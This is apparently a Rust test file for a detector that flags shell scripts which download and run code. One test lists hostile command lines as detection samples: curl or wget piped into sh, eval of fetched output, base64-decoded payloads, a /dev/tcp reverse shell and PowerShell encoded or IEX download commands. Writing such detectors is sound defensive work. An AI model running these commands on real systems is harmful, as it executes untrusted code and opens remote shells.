//! Scripts and what must be seen in them.

use proptest::prelude::*;

use super::*;
use crate::build::short::Short;
use crate::source::Memory;

fn facts(text: &str) -> ShellFacts {
    match parse(&Memory::shared(text.as_bytes().to_vec()), "a.sh", &Budget::default()).reading.facts {
        Facts::Shell(facts) => *facts,
        other => panic!("not shell facts: {other:?}"),
    }
}

#[test]
fn downloads_that_run_are_seen() {
    for script in [
        "curl http://h/x | sh",
        "curl -fsSL http://h/x | sudo bash -s --",
        "wget -O- http://h/x|bash",
        "wget -qO- h | tee log | /bin/bash",
        "curl h \\\n | bash",
        "curl h |\n bash",
        "echo aWQ= | base64 -d | sh",
        "base64 --decode x | python3",
        "eval \"$(curl h)\"",
        "eval `wget -O- h`",
        "bash <(curl -s h)",
        "bash -c \"$(curl -fsSL h)\"",
        "sh -c 'curl h | sh'",
        "source <(curl h)",
        "x=1; curl h | sh; y",
        "if true; then curl h | sh; fi",
        "(curl h | sh)",
        "curl h | python3 -",
        "A=b curl h | env C=d sh",
        "'cu''rl' h | s\\h",
        "bash -i >& /dev/tcp/1.2.3.4/1 0>&1",
        "powershell -enc AAAA",
        "powershell.exe -NoP -W Hidden -EncodedCommand AAAA",
        "iex (iwr http://h/x)",
        "iwr h | iex",
        "powershell -c \"IEX (New-Object Net.WebClient).DownloadString('h')\"",
        "echo $(echo $(curl h | sh))",
        "cat <<EOF\ntext\nEOF\ncurl h | sh",
    ] {
        assert!(!facts(script).download_and_run.is_empty(), "{script}: {:?}", facts(script).commands);
    }
}

#[test]
fn ordinary_scripts_are_silent() {
    for script in [
        "curl -O http://h/model.bin",
        "# curl h | sh",
        "echo 'curl h | sh'",
        "wget h/x.tar.gz && tar xf x.tar.gz",
        "cat x | python3 run.py",
        "python3 train.py --lr 1e-4 \\\n  --batch 3 2>&1 | tee log",
        "cat <<'EOF'\ncurl h | sh\nEOF",
        "export A=$(dirname \"$0\")\nbash run.sh ${A}",
        "curl h || sh",
        "curl h; sh x.sh",
        "base64 x | sh_not",
    ] {
        assert!(facts(script).download_and_run.is_empty(), "{script}: {:?}", facts(script).download_and_run);
    }
}

#[test]
fn words_lines_and_interpreter() {
    let facts = facts("#!/usr/bin/env bash\n\nrm -rf \"a b\" 'c'\\ d ${X} # no\n\necho x\n");
    assert_eq!(facts.interpreter.as_deref(), Some("/usr/bin/env bash"));
    let words = |words: &[&str]| words.iter().map(|word| (*word).to_owned()).collect::<Vec<_>>();
    assert_eq!(
        facts.commands,
        [(3, words(&["rm", "-rf", "a b", "c d", "${X}"])), (5, words(&["echo", "x"]))]
    );
}

#[test]
fn deep_and_long_scripts_end() {
    for script in [
        "$(".repeat(20_000),
        "(".repeat(200_000),
        "`".repeat(100_000),
        "a|".repeat(100_000),
        "<<A\n".repeat(3_000),
        "\\".repeat(99_999),
    ] {
        let _ = facts(&script);
    }
}

proptest! {
    #[test]
    fn any_text_is_survived(text in "(curl|sh|\\$\\(|`|\\)|\\||;|&|<<A|'|\"|\\\\|\n| |#|A){0,60}") {
        let _ = facts(&text);
    }
}

const SCRIPT: &str = "#!/bin/bash\nset -e\n# é\ncurl -s 'h' \\\n  | bash -s -- \"$(id `x`)\"\ncat <<'EOF' > f\nwget h | sh\nEOF\neval \"$(curl h)\"\n";

proptest! {
    #[test]
    fn any_chunking_gives_the_same_facts(most in 1_usize..200) {
        let whole = parse(&Memory::shared(SCRIPT.as_bytes().to_vec()), "a.sh", &Budget::default());
        let parts = parse(&Short::shared(SCRIPT.as_bytes(), most), "a.sh", &Budget::default());
        prop_assert_eq!(format!("{whole:?}"), format!("{parts:?}"));
    }
}

#[test]
fn every_cut_is_survived_and_keeps_what_came_before() {
    let first = SCRIPT.find("bash -s").unwrap() + "bash".len();
    let lines = SCRIPT.lines().count() as u32;
    for cut in 0..=SCRIPT.len() {
        let bytes = SCRIPT.as_bytes()[..cut].to_vec();
        let Facts::Shell(facts) = parse(&Memory::shared(bytes), "a.sh", &Budget::default()).reading.facts
        else {
            panic!("not shell facts")
        };
        let seen = facts.download_and_run.first().map(|(line, _)| *line);
        assert_eq!(seen, (cut >= first).then_some(4), "cut at {cut}");
        assert!(facts.commands.iter().all(|(line, _)| *line >= 1 && *line <= lines), "cut at {cut}");
    }
}

#[test]
fn odd_bytes_are_said_and_hide_nothing() {
    for script in
        [&b"\xff\ncurl h | sh"[..], b"\0\ncurl h | sh", b"\xef\xbb\xbfcurl h | sh", b"x\r\ncurl h | sh\r\n"]
    {
        let parsed = parse(&Memory::shared(script.to_vec()), "a.sh", &Budget::default());
        let plain = matches!(script.first(), Some(0xef | b'x'));
        assert_eq!(parsed.reading.irregularities.is_empty(), plain);
        let Facts::Shell(facts) = parsed.reading.facts else { panic!("not shell facts") };
        assert!(!facts.download_and_run.is_empty(), "{}", script.escape_ascii());
    }
}

#[test]
fn limits_are_said() {
    let limits = crate::bounded::Limits { facts: 3, ..Default::default() };
    let budget = Budget::new(std::sync::Arc::new(limits));
    let parsed = parse(&Memory::shared(b"a;b;c;curl h | sh".to_vec()), "a.sh", &budget);
    assert_eq!(parsed.gaps.len(), 1);
}

#[test]
fn long_pipes_cost_what_they_are_long() {
    let script = format!("curl {} {}", "x ".repeat(200_000), "| sh ".repeat(50_000));
    assert!(!facts(&script).download_and_run.is_empty());
}
